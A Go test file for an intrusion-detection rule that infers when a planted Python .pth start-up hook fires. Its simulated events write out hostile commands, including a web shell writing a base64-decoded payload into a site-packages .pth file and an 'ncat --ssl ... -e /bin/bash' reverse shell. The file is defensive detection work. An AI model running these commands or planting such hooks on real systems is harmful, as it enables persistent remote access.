package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

func TestHookPrefix(t *testing.T) {
	for _, c := range []struct {
		path, want string
		ok         bool
	}{
		{"/srv/kb/venv/lib/python3.11/site-packages/x.pth", "/srv/kb/venv", true},
		{"/usr/lib/python3/dist-packages/x.pth", "/usr", true},
		{"/usr/local/lib/python3.11/dist-packages/sitecustomize.py", "/usr/local", true},
		{"/opt/app/lib64/python3.9/site-packages/usercustomize.py", "/opt/app", true},
		{"/etc/python3.11/sitecustomize.py", "/usr", true},
		{"/srv/x/site-packages/x.pth", "", false}, // no lib/pythonX.Y above: whose site folder is unknown
	} {
		got, ok := hookPrefix(c.path)
		if got != c.want || ok != c.ok {
			t.Errorf("hookPrefix(%s) = %q, %v; want %q, %v", c.path, got, ok, c.want, c.ok)
		}
	}
}

// TestStartupHookFired: a .pth file the intrusion writes into a
// virtualenv's site folder is read by the venv's python at its next start
// (root's cron job); the hook's child is the plant firing, inferred from
// the interpreter's prefix, the order (after the write), the timing (its
// first child, at once) and novelty (no earlier run of the command started
// that program). Each case breaks one of them.
func TestStartupHookFired(t *testing.T) {
	const hook = "/srv/kb/venv/lib/python3.11/site-packages/kb_compat.pth"
	type run struct {
		before    bool   // the interpreter starts before the hook is written
		argv0     string // the interpreter's name
		child     string // its first child's program
		gap       time.Duration
		secondKid bool // the child is the interpreter's second, not first
	}
	venv := run{argv0: "/srv/kb/venv/bin/python", child: "/usr/bin/ncat", gap: 50 * time.Millisecond}
	for _, c := range []struct {
		name      string
		hook      string
		runs      []run // in order; the last one's child is judged
		want      bool
		rewritten bool // root rewrites the file after the plant (a package reinstalled)
	}{
		{"the venv's python starts ncat at once", hook, []run{venv}, true, false},
		{"the hook rewritten by a write no rule flagged", hook, []run{venv}, false, true},
		{"the system's python reads another prefix", hook, []run{{argv0: "/usr/bin/python3", child: "/usr/bin/ncat", gap: 50 * time.Millisecond}}, false, false},
		{"/usr's python reads /usr/local's hooks", "/usr/local/lib/python3.11/dist-packages/z.pth",
			[]run{{argv0: "/usr/bin/python3", child: "/usr/bin/ncat", gap: 50 * time.Millisecond}}, true, false},
		{"the user's own site folder, read by any python it runs", "/root/.local/lib/python3.11/site-packages/u.pth",
			[]run{{argv0: "/usr/bin/python3", child: "/usr/bin/ncat", gap: 50 * time.Millisecond}}, true, false},
		{"another user's site folder", "/home/alice/.local/lib/python3.11/site-packages/u.pth",
			[]run{{argv0: "/usr/bin/python3", child: "/usr/bin/ncat", gap: 50 * time.Millisecond}}, false, false},
		{"a child seconds into the script", hook, []run{{argv0: venv.argv0, child: venv.child, gap: 3 * time.Second}}, false, false},
		{"not the first child", hook, []run{{argv0: venv.argv0, child: venv.child, gap: 50 * time.Millisecond, secondKid: true}}, false, false},
		{"started before the write", hook, []run{{before: true, argv0: venv.argv0, child: venv.child, gap: 50 * time.Millisecond}}, false, false},
		{"the job started that program before the write", hook, []run{
			{before: true, argv0: venv.argv0, child: "/usr/bin/df", gap: 50 * time.Millisecond},
			{argv0: venv.argv0, child: "/usr/bin/df", gap: 50 * time.Millisecond}}, false, false},
		{"the job started another program before the write", hook, []run{
			{before: true, argv0: venv.argv0, child: "/usr/bin/df", gap: 50 * time.Millisecond},
			venv}, true, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			pid := 500
			start := func(r run) (last []*Finding) {
				s.exec(pid, 1, 0, "root", "/root", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
				s.exec(pid+1, pid, 0, "root", "/root", "/usr/bin/dash", "/bin/sh", "-c", r.argv0+" /srv/kb/bin/stats.py")
				s.exec(pid+2, pid+1, 0, "root", "/root", "/usr/bin/python3.11", r.argv0, "/srv/kb/bin/stats.py")
				if r.secondKid {
					s.exec(pid+3, pid+2, 0, "root", "/root", "/usr/bin/uname", "uname", "-r")
				}
				s.t = s.t.Add(r.gap)
				last = e.Observe(s.exec(pid+4, pid+2, 0, "root", "/root", r.child, r.child, "--ssl", "127.0.0.1", "4447", "-e", "/bin/bash"), s.tree)
				pid += 10
				return last
			}
			var last []*Finding
			for _, r := range c.runs {
				if r.before {
					last = start(r)
				}
			}
			// the web shell writes the hook through a shell redirection
			w := e.Observe(s.exec(202, 201, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "echo aW1wb3J0IG9z | base64 -d > "+c.hook), s.tree)
			if f := findingOf(w, "web-persistence-edit-command"); f == nil || f.Stage != StagePersistence {
				t.Fatalf("the hook's write: %v, want web-persistence-edit-command on stage 5", ids(w))
			}
			if c.rewritten {
				e.Observe(s.file(parser.KindFileWrite, 400, 1, 0, "/usr/bin/python3.11", c.hook, true), s.tree)
			}
			s.t = s.t.Add(30 * time.Second)
			for _, r := range c.runs {
				if !r.before {
					last = start(r)
				}
			}
			f := findingOf(last, RulePlantedFileRun)
			if (f != nil) != c.want {
				t.Fatalf("planted-file-run on the child: %v, want %v (%v)", f != nil, c.want, ids(last))
			}
			if f == nil {
				return
			}
			if f.Stage != StagePersistence || f.FiredHook != c.hook || !strings.Contains(f.Reason, "inferred:") {
				t.Errorf("stage %v, hook %q, reason %q: want persistence, %s, an inference said so", f.Stage, f.FiredHook, f.Reason, c.hook)
			}
			// what the hook started acts for the intrusion, and its
			// findings say by which inference
			child := pid - 10 + 4
			cf := e.Observe(s.connect(child, child-2, 0, "/usr/bin/ncat", "127.0.0.1", 4447), s.tree)
			said := false
			for _, g := range cf {
				said = said || strings.Contains(g.Reason, "a start-up hook's")
			}
			if !said {
				t.Errorf("the hook's child's connect: %v, no reason names the start-up hook", ids(cf))
			}
		})
	}
}
